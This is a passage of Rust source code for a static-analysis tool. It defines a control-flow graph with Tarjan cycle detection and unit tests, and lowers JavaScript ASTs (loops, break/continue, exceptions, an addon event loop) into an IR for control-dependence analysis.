            EdgeKind::Seq | EdgeKind::BranchTrue | EdgeKind::BranchFalse | EdgeKind::Virtual
        )
    }

    /// True for explicit non-local edges.
    pub fn is_nonlocal_explicit(self) -> bool {
        matches!(
            self,
            EdgeKind::Jump | EdgeKind::Return | EdgeKind::ThrowExplicit
        )
    }

    /// True for implicit-exception edges.
    pub fn is_nonlocal_implicit(self) -> bool {
        self == EdgeKind::ThrowImplicit
    }
}

/// A directed edge.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct Edge {
    /// Source statement.
    pub from: StmtId,
    /// Target statement.
    pub to: StmtId,
    /// Edge provenance.
    pub kind: EdgeKind,
}

/// The control-flow graph: adjacency over the global statement pool.
#[derive(Debug, Clone, Default)]
pub struct Cfg {
    edges: BTreeSet<Edge>,
    /// Successor adjacency (rebuilt lazily would complicate; kept in sync).
    succs: Vec<Vec<(StmtId, EdgeKind)>>,
    preds: Vec<Vec<(StmtId, EdgeKind)>>,
}

impl Cfg {
    /// An empty CFG sized for `n` statements.
    pub fn with_capacity(n: usize) -> Cfg {
        Cfg {
            edges: BTreeSet::new(),
            succs: vec![Vec::new(); n],
            preds: vec![Vec::new(); n],
        }
    }

    /// Grows the node tables to cover statement ids up to `n - 1`.
    pub fn ensure_nodes(&mut self, n: usize) {
        if self.succs.len() < n {
            self.succs.resize(n, Vec::new());
            self.preds.resize(n, Vec::new());
        }
    }

    /// Adds an edge (idempotent).
    pub fn add_edge(&mut self, from: StmtId, to: StmtId, kind: EdgeKind) {
        let e = Edge { from, to, kind };
        if self.edges.insert(e) {
            self.ensure_nodes((from.0.max(to.0) + 1) as usize);
            self.succs[from.0 as usize].push((to, kind));
            self.preds[to.0 as usize].push((from, kind));
        }
    }

    /// All edges in deterministic order.
    pub fn edges(&self) -> impl Iterator<Item = &Edge> {
        self.edges.iter()
    }

    /// Successors of a statement with edge kinds.
    pub fn succs(&self, s: StmtId) -> &[(StmtId, EdgeKind)] {
        self.succs
            .get(s.0 as usize)
            .map(Vec::as_slice)
            .unwrap_or(&[])
    }

    /// Predecessors of a statement with edge kinds.
    pub fn preds(&self, s: StmtId) -> &[(StmtId, EdgeKind)] {
        self.preds
            .get(s.0 as usize)
            .map(Vec::as_slice)
            .unwrap_or(&[])
    }

    /// Number of edges.
    pub fn edge_count(&self) -> usize {
        self.edges.len()
    }

    /// Number of node slots.
    pub fn node_count(&self) -> usize {
        self.succs.len()
    }

    /// A filtered copy keeping only edges satisfying `keep`. Node tables
    /// retain their size so statement ids stay valid.
    pub fn filtered(&self, keep: impl Fn(EdgeKind) -> bool) -> Cfg {
        let mut out = Cfg::with_capacity(self.node_count());
        for e in &self.edges {
            if keep(e.kind) {
                out.add_edge(e.from, e.to, e.kind);
            }
        }
        out
    }

    /// The set of statements reachable from `start` in this graph.
    pub fn reachable_from(&self, start: StmtId) -> BTreeSet<StmtId> {
        let mut seen = BTreeSet::new();
        let mut stack = vec![start];
        while let Some(s) = stack.pop() {
            if seen.insert(s) {
                for (t, _) in self.succs(s) {
                    stack.push(*t);
                }
            }
        }
        seen
    }

    /// Computes the set of statements that lie on a cycle of this graph
    /// (members of non-trivial strongly connected components or self
    /// loops). Used for the paper's *amplified* control classification.
    pub fn nodes_in_cycles(&self) -> BTreeSet<StmtId> {
        // Tarjan's SCC, iterative.
        let n = self.node_count();
        let mut index = vec![u32::MAX; n];
        let mut low = vec![0u32; n];
        let mut on_stack = vec![false; n];
        let mut stack: Vec<u32> = Vec::new();
        let mut next_index = 0u32;
        let mut result = BTreeSet::new();

        #[derive(Clone, Copy)]
        struct Frame {
            v: u32,
            succ_pos: usize,
        }

        for root in 0..n as u32 {
            if index[root as usize] != u32::MAX {
                continue;
            }
            let mut call_stack = vec![Frame {
                v: root,
                succ_pos: 0,
            }];
            while let Some(frame) = call_stack.last_mut() {
                let v = frame.v;
                if frame.succ_pos == 0 {
                    index[v as usize] = next_index;
                    low[v as usize] = next_index;
                    next_index += 1;
                    stack.push(v);
                    on_stack[v as usize] = true;
                }
                let succs = &self.succs[v as usize];
                if frame.succ_pos < succs.len() {
                    let (w, _) = succs[frame.succ_pos];
                    frame.succ_pos += 1;
                    let w = w.0;
                    if index[w as usize] == u32::MAX {
                        call_stack.push(Frame { v: w, succ_pos: 0 });
                    } else if on_stack[w as usize] {
                        low[v as usize] = low[v as usize].min(index[w as usize]);
                    }
                } else {
                    call_stack.pop();
                    if let Some(parent) = call_stack.last() {
                        low[parent.v as usize] = low[parent.v as usize].min(low[v as usize]);
                    }
                    if low[v as usize] == index[v as usize] {
                        // v is an SCC root; pop the component.
                        let mut comp = Vec::new();
                        loop {
                            let w = stack.pop().expect("tarjan stack");
                            on_stack[w as usize] = false;
                            comp.push(w);
                            if w == v {
                                break;
                            }
                        }
                        let nontrivial = comp.len() > 1
                            || self.succs[v as usize].iter().any(|(t, _)| t.0 == v);
                        if nontrivial {
                            result.extend(comp.into_iter().map(StmtId));
                        }
                    }
                }
            }
        }
        result
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn s(n: u32) -> StmtId {
        StmtId(n)
    }

    #[test]
    fn add_and_query_edges() {
        let mut g = Cfg::with_capacity(3);
        g.add_edge(s(0), s(1), EdgeKind::Seq);
        g.add_edge(s(1), s(2), EdgeKind::BranchTrue);
        g.add_edge(s(1), s(0), EdgeKind::BranchFalse);
        g.add_edge(s(1), s(2), EdgeKind::BranchTrue); // duplicate
        assert_eq!(g.edge_count(), 3);
        assert_eq!(g.succs(s(1)).len(), 2);
        assert_eq!(g.preds(s(0)).len(), 1);
        assert!(g.succs(s(99)).is_empty());
    }

    #[test]
    fn filter_by_kind() {
        let mut g = Cfg::with_capacity(4);
        g.add_edge(s(0), s(1), EdgeKind::Seq);
        g.add_edge(s(1), s(2), EdgeKind::Jump);
        g.add_edge(s(2), s(3), EdgeKind::ThrowImplicit);
        let local = g.filtered(|k| k.is_local());
        assert_eq!(local.edge_count(), 1);
        assert_eq!(local.node_count(), g.node_count());
        let no_implicit = g.filtered(|k| !k.is_nonlocal_implicit());
        assert_eq!(no_implicit.edge_count(), 2);
    }

    #[test]
    fn reachability() {
        let mut g = Cfg::with_capacity(5);
        g.add_edge(s(0), s(1), EdgeKind::Seq);
        g.add_edge(s(1), s(2), EdgeKind::Seq);
        g.add_edge(s(3), s(4), EdgeKind::Seq);
        let r = g.reachable_from(s(0));
        assert!(r.contains(&s(2)));
        assert!(!r.contains(&s(3)));
    }

    #[test]
    fn cycles_detected() {
        let mut g = Cfg::with_capacity(6);
        // 0 -> 1 -> 2 -> 1 (cycle), 2 -> 3, 4 -> 4 (self loop), 5 isolated.
        g.add_edge(s(0), s(1), EdgeKind::Seq);
        g.add_edge(s(1), s(2), EdgeKind::Seq);
        g.add_edge(s(2), s(1), EdgeKind::Seq);
        g.add_edge(s(2), s(3), EdgeKind::Seq);
        g.add_edge(s(4), s(4), EdgeKind::Seq);
        let cyc = g.nodes_in_cycles();
        assert!(cyc.contains(&s(1)));
        assert!(cyc.contains(&s(2)));
        assert!(cyc.contains(&s(4)));
        assert!(!cyc.contains(&s(0)));
        assert!(!cyc.contains(&s(3)));
        assert!(!cyc.contains(&s(5)));
    }

    #[test]
    fn edge_kind_classification() {
        assert!(EdgeKind::Seq.is_local());
        assert!(EdgeKind::BranchTrue.is_local());
        assert!(EdgeKind::Jump.is_nonlocal_explicit());
        assert!(EdgeKind::Return.is_nonlocal_explicit());
        assert!(EdgeKind::ThrowExplicit.is_nonlocal_explicit());
        assert!(EdgeKind::ThrowImplicit.is_nonlocal_implicit());
        assert!(!EdgeKind::Uncaught.is_local());
        assert!(!EdgeKind::Uncaught.is_nonlocal_explicit());
        assert!(!EdgeKind::Uncaught.is_nonlocal_implicit());
    }

    #[test]
    fn large_cycle_tarjan_iterative() {
        // A long chain ending in a back edge must not overflow the stack.
        let n = 10_000u32;
        let mut g = Cfg::with_capacity(n as usize);
        for i in 0..n - 1 {
            g.add_edge(s(i), s(i + 1), EdgeKind::Seq);
        }
        g.add_edge(s(n - 1), s(0), EdgeKind::Seq);
        assert_eq!(g.nodes_in_cycles().len(), n as usize);
    }
}
