//! Lowering from the AST to the flat IR + CFG.
//!
//! Every function (and the top level) is lowered into a statement list
//! with an explicit [`Cfg`]. Expressions are flattened into temporaries;
//! short-circuit operators, conditionals, loops, `switch`, labeled
//! break/continue, and `try`/`catch`/`finally` are all expanded into
//! branches and kinded edges.
//!
//! Exception edges: `throw` statements get [`EdgeKind::ThrowExplicit`]
//! edges to the innermost handler (or [`EdgeKind::Uncaught`] to the
//! function exit -- the paper omits uncaught-exception control dependence
//! because uncaught exceptions terminate the addon). *Implicit* exception
//! edges are added later by [`crate::add_implicit_throw_edges`] once the
//! base analysis knows which statements may actually throw.

use crate::cfg::{Cfg, EdgeKind};
use crate::ir::*;
use jsparser::ast::{self, FunId};
use jsparser::span::Span;
use std::collections::HashMap;

/// Options controlling lowering.
#[derive(Debug, Clone)]
pub struct LowerOptions {
    /// Append the non-deterministic addon event loop after the top-level
    /// code (Section 6.1 of the paper). On by default.
    pub event_loop: bool,
}

impl Default for LowerOptions {
    fn default() -> Self {
        LowerOptions { event_loop: true }
    }
}

/// The result of lowering: the IR program and its (intraprocedural) CFG.
#[derive(Debug, Clone)]
pub struct Lowered {
    /// The IR program.
    pub program: IrProgram,
    /// The control-flow graph (per-function subgraphs over global ids).
    pub cfg: Cfg,
    /// The statement that dispatches event handlers, when the event loop
    /// was appended.
    pub event_dispatch: Option<StmtId>,
}

/// Lowers a parsed program with default options.
pub fn lower(ast: &ast::Program) -> Lowered {
    lower_with_options(ast, &LowerOptions::default())
}

/// Lowers a parsed program.
pub fn lower_with_options(ast: &ast::Program, opts: &LowerOptions) -> Lowered {
    let mut lw = Lowerer {
        funcs: Vec::new(),
        stmts: Vec::new(),
        cfg: Cfg::default(),
        symtabs: Vec::new(),
        fun_map: HashMap::new(),
        ast_funs: HashMap::new(),
        queue: Vec::new(),
        deferred_returns: Vec::new(),
        deferred_uncaught: Vec::new(),
    };
    collect_ast_funs(&ast.body, &mut lw.ast_funs);

    // Top-level pseudo-function.
    let top = lw.new_func(None, "<top-level>", &[], None);
    debug_assert_eq!(top, IrFuncId::TOP_LEVEL);
    lw.lower_function_body(top, &ast.body, opts.event_loop);

    // Lower queued (nested) functions until done.
    while let Some((ir_id, fun_id)) = lw.queue.pop() {
        let fun = lw.ast_funs[&fun_id];
        lw.lower_function_body(ir_id, &fun.body, false);
    }

    let event_dispatch = lw
        .stmts
        .iter()
        .find(|s| matches!(s.kind, IrStmtKind::EventDispatch))
        .map(|s| s.id);
    lw.cfg.ensure_nodes(lw.stmts.len());
    Lowered {
        program: IrProgram {
            funcs: lw.funcs,
            stmts: lw.stmts,
        },
        cfg: lw.cfg,
        event_dispatch,
    }
}

/// Collects every function literal in the AST, keyed by [`FunId`].
fn collect_ast_funs<'a>(body: &'a [ast::Stmt], out: &mut HashMap<FunId, &'a ast::Function>) {
    struct V<'a, 'b> {
        out: &'b mut HashMap<FunId, &'a ast::Function>,
    }
    impl<'a> V<'a, '_> {
        fn fun(&mut self, f: &'a ast::Function) {
            self.out.insert(f.id, f);
            self.stmts(&f.body);
        }
        fn stmts(&mut self, body: &'a [ast::Stmt]) {
            for s in body {
                self.stmt(s);
            }
        }
        fn stmt(&mut self, s: &'a ast::Stmt) {
            use ast::StmtKind::*;
            match &s.kind {
                Expr(e) => self.expr(e),
                VarDecl(ds) => {
                    for d in ds {
                        if let Some(e) = &d.init {
                            self.expr(e);
                        }
                    }
                }
                FunDecl(f) => self.fun(f),
                If { cond, cons, alt } => {
                    self.expr(cond);
                    self.stmt(cons);
                    if let Some(a) = alt {
                        self.stmt(a);
                    }
                }
                While { cond, body } => {
                    self.expr(cond);
                    self.stmt(body);
                }
                DoWhile { body, cond } => {
                    self.stmt(body);
                    self.expr(cond);
                }
                For {
                    init,
                    test,
                    update,
                    body,
                } => {
                    if let Some(i) = init {
                        self.stmt(i);
                    }
                    if let Some(t) = test {
                        self.expr(t);
                    }
                    if let Some(u) = update {
                        self.expr(u);
                    }
                    self.stmt(body);
                }
                ForIn {
                    target, obj, body, ..
                } => {
                    self.expr(target);
                    self.expr(obj);
                    self.stmt(body);
                }
                Return(e) => {
                    if let Some(e) = e {
                        self.expr(e);
                    }
                }
                Throw(e) => self.expr(e),
                Try {
                    block,
                    catch,
                    finally,
                } => {
                    self.stmts(block);
                    if let Some((_, b)) = catch {
                        self.stmts(b);
                    }
                    if let Some(b) = finally {
                        self.stmts(b);
                    }
                }
                Switch { disc, cases } => {
                    self.expr(disc);
                    for c in cases {
                        if let Some(t) = &c.test {
                            self.expr(t);
                        }
                        self.stmts(&c.body);
                    }
                }
                Block(b) => self.stmts(b),
                Labeled(_, s) => self.stmt(s),
                Break(_) | Continue(_) | Empty => {}
            }
        }
        fn expr(&mut self, e: &'a ast::Expr) {
            use ast::ExprKind::*;
            match &e.kind {
                Function(f) => self.fun(f),
                Array(es) => {
                    for e in es.iter().flatten() {
                        self.expr(e);
                    }
                }
                Object(ps) => {
                    for (_, v) in ps {
                        self.expr(v);
                    }
                }
                Unary { arg, .. } | Update { arg, .. } => self.expr(arg),
                Binary { left, right, .. } | Logical { left, right, .. } => {
                    self.expr(left);
                    self.expr(right);
                }
                Assign { target, value, .. } => {
                    self.expr(target);
                    self.expr(value);
                }
                Cond { test, cons, alt } => {
                    self.expr(test);
                    self.expr(cons);
                    self.expr(alt);
                }
                Call { callee, args } | New { callee, args } => {
                    self.expr(callee);
                    for a in args {
                        self.expr(a);
                    }
                }
                Member { obj, prop } => {
                    self.expr(obj);
                    if let ast::MemberProp::Computed(p) = prop {
                        self.expr(p);
                    }
                }
                Seq(es) => {
                    for e in es {
                        self.expr(e);
                    }
                }
                Ident(_) | Num(_) | Str(_) | Bool(_) | Null | This | Regex(_) => {}
            }
        }
    }
    V { out }.stmts(body);
}

/// Collects the names hoisted to function scope: `var` names, function
/// declaration names, catch parameters, and for-in declaration targets.
/// Does not descend into nested function literals. Also returns the
/// function declarations themselves (for hoisted initialization).
fn hoisted_names(body: &[ast::Stmt]) -> (Vec<String>, Vec<&ast::Function>) {
    let mut names = Vec::new();
    let mut decls = Vec::new();
    fn go<'a>(body: &'a [ast::Stmt], names: &mut Vec<String>, decls: &mut Vec<&'a ast::Function>) {
        use ast::StmtKind::*;
        for s in body {
            match &s.kind {
                VarDecl(ds) => names.extend(ds.iter().map(|d| d.name.name.clone())),
                FunDecl(f) => {
                    if let Some(n) = &f.name {
                        names.push(n.name.clone());
                    }
                    decls.push(f);
                }
                If { cons, alt, .. } => {
                    go(std::slice::from_ref(cons), names, decls);
                    if let Some(a) = alt {
                        go(std::slice::from_ref(a), names, decls);
                    }
                }
                While { body, .. } | DoWhile { body, .. } => {
                    go(std::slice::from_ref(body), names, decls)
                }
                For { init, body, .. } => {
                    if let Some(i) = init {
                        go(std::slice::from_ref(i), names, decls);
                    }
                    go(std::slice::from_ref(body), names, decls);
                }
                ForIn {
                    decl,
                    target,
                    body,
                    ..
                } => {
                    if *decl {
                        if let ast::ExprKind::Ident(n) = &target.kind {
                            names.push(n.clone());
                        }
                    }
                    go(std::slice::from_ref(body), names, decls);
                }
                Try {
                    block,
                    catch,
                    finally,
                } => {
                    go(block, names, decls);
                    if let Some((param, b)) = catch {
                        names.push(param.name.clone());
                        go(b, names, decls);
                    }
                    if let Some(b) = finally {
                        go(b, names, decls);
                    }
                }
                Switch { cases, .. } => {
                    for c in cases {
                        go(&c.body, names, decls);
                    }
                }
                Block(b) => go(b, names, decls),
                Labeled(_, s) => go(std::slice::from_ref(s), names, decls),
                _ => {}
            }
        }
    }
    go(body, &mut names, &mut decls);
    (names, decls)
}

/// A pending edge waiting for its target statement.
type Pending = Vec<(StmtId, EdgeKind)>;

/// Where `continue` edges of a loop go.
enum ContinueSink {
    /// Jump straight to an existing header statement.
    Target(StmtId),
    /// Collect; the loop resolves them later (for `for`/`do-while`, whose
    /// continue point does not exist while the body is lowered).
    Collect(Pending),
}

/// Per-construct context for `break` and `continue` resolution.
struct LoopCtx {
    /// Labels naming this construct (a statement can carry several).
    labels: Vec<String>,
    /// Break edges to resolve when the construct ends.
    breaks: Pending,
    /// Continue handling; `None` for switch / labeled blocks.
    continues: Option<ContinueSink>,
    /// True for constructs an unlabeled `break` can target.
    is_breakable: bool,
}

struct Lowerer<'a> {
    funcs: Vec<IrFunc>,
    stmts: Vec<IrStmt>,
    cfg: Cfg,
    /// Symbol table per function: name -> slot.
    symtabs: Vec<HashMap<String, u32>>,
    /// AST FunId -> IR function id.
    fun_map: HashMap<FunId, IrFuncId>,
    /// AST FunId -> AST node.
    ast_funs: HashMap<FunId, &'a ast::Function>,
    /// Functions whose bodies still need lowering.
    queue: Vec<(IrFuncId, FunId)>,
    /// `return` statements awaiting an edge to their function's exit.
    deferred_returns: Vec<(IrFuncId, StmtId)>,
    /// Uncaught `throw` statements awaiting an Uncaught edge to the exit.
    deferred_uncaught: Vec<(IrFuncId, StmtId)>,
}

/// Per-function lowering state.
struct FnCtx {
    func: IrFuncId,
    pending: Pending,
    loops: Vec<LoopCtx>,
    handlers: Vec<StmtId>,
    /// Labels seen on the way down to the next loop/switch statement.
    pending_labels: Vec<String>,
}

impl<'a> Lowerer<'a> {
    fn new_func(
        &mut self,
        ast_id: Option<FunId>,
        name: &str,
        params: &[ast::Ident],
        parent: Option<IrFuncId>,
    ) -> IrFuncId {
        let id = IrFuncId(self.funcs.len() as u32);
        let mut vars: Vec<VarInfo> = params
            .iter()
            .map(|p| VarInfo {
                name: Some(p.name.clone()),
                is_param: true,
            })
            .collect();
        let mut symtab = HashMap::new();
        for (i, p) in params.iter().enumerate() {
            symtab.insert(p.name.clone(), i as u32);
        }
        // Self-binding for named function expressions / recursion.
        if ast_id.is_some() && !name.is_empty() && !symtab.contains_key(name) {
            symtab.insert(name.to_owned(), vars.len() as u32);
            vars.push(VarInfo {
                name: Some(name.to_owned()),
                is_param: false,
            });
        }
        self.funcs.push(IrFunc {
            id,
            ast_id,
            name: name.to_owned(),
            param_count: params.len() as u32,
            vars,
            entry: StmtId(0), // fixed up in lower_function_body
            exit: StmtId(0),
            stmts: Vec::new(),
            parent,
        });
        self.symtabs.push(symtab);
        id
    }

    /// Gets or creates the IR id for an AST function, enqueueing its body.
    fn ir_id_for(&mut self, fun_id: FunId, parent: IrFuncId) -> IrFuncId {
        if let Some(id) = self.fun_map.get(&fun_id) {
            return *id;
        }
        let fun = self.ast_funs[&fun_id];
        let name = fun.name.as_ref().map(|n| n.name.as_str()).unwrap_or("");
        let id = self.new_func(Some(fun_id), name, &fun.params, Some(parent));
        self.fun_map.insert(fun_id, id);
        self.queue.push((id, fun_id));
        id
    }

    /// Allocates a fresh temp in `func`.
    fn temp(&mut self, func: IrFuncId) -> Place {
        let f = &mut self.funcs[func.0 as usize];
        let index = f.vars.len() as u32;
        f.vars.push(VarInfo {
            name: None,
            is_param: false,
        });
        Place::Var(VarId { func, index })
    }

    /// Ensures `name` has a slot in `func` (used during hoisting).
    fn declare(&mut self, func: IrFuncId, name: &str) -> u32 {
        if let Some(&i) = self.symtabs[func.0 as usize].get(name) {
            return i;
        }
        let f = &mut self.funcs[func.0 as usize];
        let index = f.vars.len() as u32;
        f.vars.push(VarInfo {
            name: Some(name.to_owned()),
            is_param: false,
        });
        self.symtabs[func.0 as usize].insert(name.to_owned(), index);
        index
    }

    /// Resolves a name against the static scope chain.
    fn resolve(&self, mut func: IrFuncId, name: &str) -> Place {
        loop {
            if let Some(&index) = self.symtabs[func.0 as usize].get(name) {
                return Place::Var(VarId { func, index });
            }
            match self.funcs[func.0 as usize].parent {
                Some(p) => func = p,
                None => return Place::Global(name.to_owned()),
            }
        }
    }

    /// Emits a statement, wiring all pending edges to it and leaving a
    /// sequential pending edge out of it.
    fn emit(&mut self, cx: &mut FnCtx, kind: IrStmtKind, span: Span) -> StmtId {
        let id = StmtId(self.stmts.len() as u32);
        let handler = cx.handlers.last().copied();
        self.stmts.push(IrStmt {
            id,
            func: cx.func,
            kind,
            span,
            handler,
        });
        self.funcs[cx.func.0 as usize].stmts.push(id);
        self.cfg.ensure_nodes(self.stmts.len());
        for (from, kind) in cx.pending.drain(..) {
            self.cfg.add_edge(from, id, kind);
        }
        cx.pending.push((id, EdgeKind::Seq));
        id
    }

    /// Lowers a function body into IR statements.
    fn lower_function_body(&mut self, func: IrFuncId, body: &'a [ast::Stmt], event_loop: bool) {
        // Hoist declarations.
        let (names, fun_decls) = hoisted_names(body);
        for n in &names {
            self.declare(func, n);
        }
        let mut cx = FnCtx {
            func,
            pending: Vec::new(),
            loops: Vec::new(),
            handlers: Vec::new(),
            pending_labels: Vec::new(),
        };
        let entry = self.emit(&mut cx, IrStmtKind::Enter, Span::default());
        // Hoisted function declarations initialize their names at entry.
        for f in fun_decls {
            let ir = self.ir_id_for(f.id, func);
            let name = f.name.as_ref().expect("fun decls are named");
            let dst = self.resolve(func, &name.name);
            self.emit(
                &mut cx,
                IrStmtKind::Lambda { dst, func: ir },
                f.span,
            );
        }
        for s in body {
            self.lower_stmt(&mut cx, s);
        }

        let mut dispatch = None;
        if event_loop {
            // header: h = havoc; branch h { true -> dispatch -> header }
            let hv = self.temp(func);
            let header = self.emit(
                &mut cx,
                IrStmtKind::Havoc { dst: hv.clone() },
                Span::default(),
            );
            let br = self.emit(
                &mut cx,
                IrStmtKind::Branch {
                    cond: Operand::Place(hv),
                },
                Span::default(),
            );
            cx.pending.clear();
            cx.pending.push((br, EdgeKind::BranchTrue));
            let d = self.emit(&mut cx, IrStmtKind::EventDispatch, Span::default());
            dispatch = Some(d);
            // Loop back.
            for (from, kind) in cx.pending.drain(..) {
                self.cfg.add_edge(from, header, kind);
            }
            cx.pending.push((br, EdgeKind::BranchFalse));
        }

        let exit = self.emit(&mut cx, IrStmtKind::Exit, Span::default());
        cx.pending.clear();
        // Resolve deferred return / uncaught-throw edges for this function.
        for (f, s) in std::mem::take(&mut self.deferred_returns) {
            if f == func {
                self.cfg.add_edge(s, exit, EdgeKind::Return);
            } else {
                self.deferred_returns.push((f, s));
            }
        }
        for (f, s) in std::mem::take(&mut self.deferred_uncaught) {
            if f == func {
                self.cfg.add_edge(s, exit, EdgeKind::Uncaught);
            } else {
                self.deferred_uncaught.push((f, s));
            }
        }
        let f = &mut self.funcs[func.0 as usize];
        f.entry = entry;
        f.exit = exit;
        let _ = dispatch;
    }

    fn lower_stmts(&mut self, cx: &mut FnCtx, body: &'a [ast::Stmt]) {
        for s in body {
            self.lower_stmt(cx, s);
        }
    }

    fn lower_stmt(&mut self, cx: &mut FnCtx, stmt: &'a ast::Stmt) {
        use ast::StmtKind::*;
        let span = stmt.span;
        match &stmt.kind {
            Expr(e) => {
                self.lower_expr(cx, e);
            }
            VarDecl(ds) => {
                for d in ds {
                    if let Some(init) = &d.init {
                        let v = self.lower_expr(cx, init);
                        let dst = self.resolve(cx.func, &d.name.name);
                        self.emit(cx, IrStmtKind::Copy { dst, src: v }, d.name.span);
                    }
                }
            }
            FunDecl(_) => {
                // Hoisted at function entry; nothing to do in place.
            }
            If { cond, cons, alt } => {
                let c = self.lower_expr(cx, cond);
                let br = self.emit(cx, IrStmtKind::Branch { cond: c }, span);
                cx.pending.clear();
                cx.pending.push((br, EdgeKind::BranchTrue));
                self.lower_stmt(cx, cons);
                let after_cons = std::mem::take(&mut cx.pending);
                cx.pending.push((br, EdgeKind::BranchFalse));
                if let Some(alt) = alt {
                    self.lower_stmt(cx, alt);
                }
                cx.pending.extend(after_cons);
            }
            While { cond, body } => {
                let labels = std::mem::take(&mut cx.pending_labels);
                let header = self.emit(cx, IrStmtKind::Nop("while-header"), span);
                let c = self.lower_expr(cx, cond);
                let br = self.emit(cx, IrStmtKind::Branch { cond: c }, span);
                cx.pending.clear();
                cx.pending.push((br, EdgeKind::BranchTrue));
                cx.loops.push(LoopCtx {
                    labels,
                    breaks: Vec::new(),
                    continues: Some(ContinueSink::Target(header)),
                    is_breakable: true,
                });
                self.lower_stmt(cx, body);
                // Back edge.
                for (from, kind) in cx.pending.drain(..) {
                    self.cfg.add_edge(from, header, kind);
                }
                let ctx = cx.loops.pop().expect("loop ctx");
                cx.pending.push((br, EdgeKind::BranchFalse));
                cx.pending.extend(ctx.breaks);
            }
            DoWhile { body, cond } => {
                let labels = std::mem::take(&mut cx.pending_labels);
                let header = self.emit(cx, IrStmtKind::Nop("do-header"), span);
                cx.loops.push(LoopCtx {
                    labels,
                    breaks: Vec::new(),
                    continues: Some(ContinueSink::Collect(Vec::new())),
                    is_breakable: true,
                });
                self.lower_stmt(cx, body);
                // `continue` lands at the condition evaluation.
                let idx = cx.loops.len() - 1;
                if let Some(ContinueSink::Collect(edges)) = cx.loops[idx].continues.take() {
                    cx.pending.extend(edges);
                }
                let c = self.lower_expr(cx, cond);
                let br = self.emit(cx, IrStmtKind::Branch { cond: c }, span);
                cx.pending.clear();
                self.cfg.add_edge(br, header, EdgeKind::BranchTrue);
                let ctx = cx.loops.pop().expect("loop ctx");
                cx.pending.push((br, EdgeKind::BranchFalse));
                cx.pending.extend(ctx.breaks);
            }
            For {
                init,
                test,
                update,
                body,
            } => {
                let labels = std::mem::take(&mut cx.pending_labels);
                if let Some(init) = init {
                    self.lower_stmt(cx, init);
                }
                let header = self.emit(cx, IrStmtKind::Nop("for-header"), span);
                let br = test.as_ref().map(|t| {
                    let c = self.lower_expr(cx, t);
                    let br = self.emit(cx, IrStmtKind::Branch { cond: c }, span);
                    cx.pending.clear();
                    cx.pending.push((br, EdgeKind::BranchTrue));
                    br
                });
                cx.loops.push(LoopCtx {
                    labels,
                    breaks: Vec::new(),
                    continues: Some(ContinueSink::Collect(Vec::new())),
                    is_breakable: true,
                });
                self.lower_stmt(cx, body);
                // `continue` lands at the update expression.
                let idx = cx.loops.len() - 1;
                if let Some(ContinueSink::Collect(edges)) = cx.loops[idx].continues.take() {
                    cx.pending.extend(edges);
                }
                if let Some(update) = update {
                    self.lower_expr(cx, update);
                }
                for (from, kind) in cx.pending.drain(..) {
                    self.cfg.add_edge(from, header, kind);
                }
                let ctx = cx.loops.pop().expect("loop ctx");
                if let Some(br) = br {
                    cx.pending.push((br, EdgeKind::BranchFalse));
                }
                cx.pending.extend(ctx.breaks);
            }
            ForIn {
                target, obj, body, ..
            } => {
                let labels = std::mem::take(&mut cx.pending_labels);
                let o = self.lower_expr(cx, obj);
                let hv = self.temp(cx.func);
                let header = self.emit(cx, IrStmtKind::Havoc { dst: hv.clone() }, span);
                let br = self.emit(
                    cx,
                    IrStmtKind::Branch {
                        cond: Operand::Place(hv),
                    },
                    span,
                );
                cx.pending.clear();
                cx.pending.push((br, EdgeKind::BranchTrue));
                // Bind the key.
                match &target.kind {
                    ast::ExprKind::Ident(name) => {
                        let dst = self.resolve(cx.func, name);
                        self.emit(
                            cx,
                            IrStmtKind::ForInNext {
                                dst,
                                obj: o.clone(),
                            },
                            span,
                        );
                    }
                    ast::ExprKind::Member { obj: mo, prop } => {
                        let key = self.temp(cx.func);
                        self.emit(
                            cx,
                            IrStmtKind::ForInNext {
                                dst: key.clone(),
                                obj: o.clone(),
                            },
                            span,
                        );
                        let mo = self.lower_expr(cx, mo);
                        let p = self.lower_member_prop(cx, prop);
                        self.emit(
                            cx,
                            IrStmtKind::StoreProp {
                                obj: mo,
                                prop: p,
                                value: Operand::Place(match &key {
                                    Place::Var(v) => Place::Var(*v),
                                    Place::Global(g) => Place::Global(g.clone()),
                                }),
                            },
                            span,
                        );
                    }
                    _ => {
                        // Parser guarantees assign targets only.
                        let dst = self.temp(cx.func);
                        self.emit(cx, IrStmtKind::ForInNext { dst, obj: o.clone() }, span);
                    }
                }
                cx.loops.push(LoopCtx {
                    labels,
                    breaks: Vec::new(),
                    continues: Some(ContinueSink::Target(header)),
                    is_breakable: true,
                });
                self.lower_stmt(cx, body);
                for (from, kind) in cx.pending.drain(..) {
                    self.cfg.add_edge(from, header, kind);
                }
                let ctx = cx.loops.pop().expect("loop ctx");
                cx.pending.push((br, EdgeKind::BranchFalse));
                cx.pending.extend(ctx.breaks);
            }
            Return(e) => {
                let v = match e {
                    Some(e) => self.lower_expr(cx, e),
                    None => Operand::Undefined,
                };
                let r = self.emit(cx, IrStmtKind::Return { value: v }, span);
                cx.pending.clear();
                // The function exit node doesn't exist yet; defer the edge.
                self.deferred_returns.push((cx.func, r));
            }
            Break(label) => {
                let b = self.emit(cx, IrStmtKind::Nop("break"), span);
                cx.pending.clear();
                let target = match label {
                    Some(l) => cx
                        .loops
                        .iter_mut()
                        .rev()
                        .find(|c| c.labels.iter().any(|x| x == &l.name)),
                    None => cx.loops.iter_mut().rev().find(|c| c.is_breakable),
                };
                if let Some(ctx) = target {
                    ctx.breaks.push((b, EdgeKind::Jump));
                }
                // Unresolved break (malformed program): falls off; no edge.
            }
            Continue(label) => {
                let c = self.emit(cx, IrStmtKind::Nop("continue"), span);
                cx.pending.clear();
                let target = match label {
                    Some(l) => cx.loops.iter_mut().rev().find(|ctx| {
                        ctx.continues.is_some() && ctx.labels.iter().any(|x| x == &l.name)
                    }),
                    None => cx.loops.iter_mut().rev().find(|ctx| ctx.continues.is_some()),
                };
                if let Some(ctx) = target {
                    match ctx.continues.as_mut().expect("filtered above") {
                        ContinueSink::Target(h) => {
                            let h = *h;
                            self.cfg.add_edge(c, h, EdgeKind::Jump);
                        }
                        ContinueSink::Collect(edges) => edges.push((c, EdgeKind::Jump)),
                    }
                }
            }
            Throw(e) => {
                let v = self.lower_expr(cx, e);
                let t = self.emit(cx, IrStmtKind::Throw { value: v }, span);
                cx.pending.clear();
                match cx.handlers.last() {
